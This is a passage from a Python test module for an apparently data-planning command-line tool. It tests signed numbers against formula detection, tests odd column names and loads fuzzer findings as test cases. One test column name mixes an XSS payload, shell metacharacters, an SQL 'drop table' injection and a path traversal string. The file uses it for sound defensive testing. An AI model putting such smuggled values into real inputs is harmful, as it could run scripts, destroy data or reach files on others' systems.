    return check(planned(folder, data=HEADER + GOOD + GOOD))


@case("odd: numbers with signs, ranges and lone signs are no formulas", "", code=0)
def _(folder: Path) -> list[str]:
    text = HEADER + "".join(f"{i},{-i},{('-', '+', '-1', '-10-20')[i % 4]},{i % 2}\n" for i in range(60))
    return ["plan", str(put(folder, "people.csv", text))]


@case("odd: names with SQL, HTML, markdown and paths", "", code=0)
def _(folder: Path) -> list[str]:
    name = "<img src=x onerror=alert(1)> | `x` '; drop table y -- ../../z"
    header = changed("sex", name, HEADER)
    return ["plan", str(put(folder, "people.csv", header + GOOD))]


# What the fuzzers found


def found(path: Path) -> None:
    """Enter a kept finding; the file's beginning names the parser that it is for."""
    parser = path.name.partition("-")[0]

    def build(folder: Path) -> list[str]:
        content = path.read_bytes()
        if parser == "plan":
            planned(folder)
            return check(put(folder, "plan.yaml", content))
        if parser == "settings":
            return [
                "compare",
                "--inline",
                str(planned(folder)),
                "--methods",
                content.decode("utf-8", "replace").replace("\0", ""),
            ]
        return run(planned(folder, data=content, path=f"people.{'csv' if parser == 'csv' else 'parquet'}"))

    CASES.append(Case(f"found: {path.name}", build, ""))


for kept in sorted(CORPUS.glob("*")) if CORPUS.is_dir() else []:
    if kept.suffix != ".md":
        found(kept)

assert len({c.name for c in CASES}) == len(CASES), json.dumps([c.name for c in CASES])
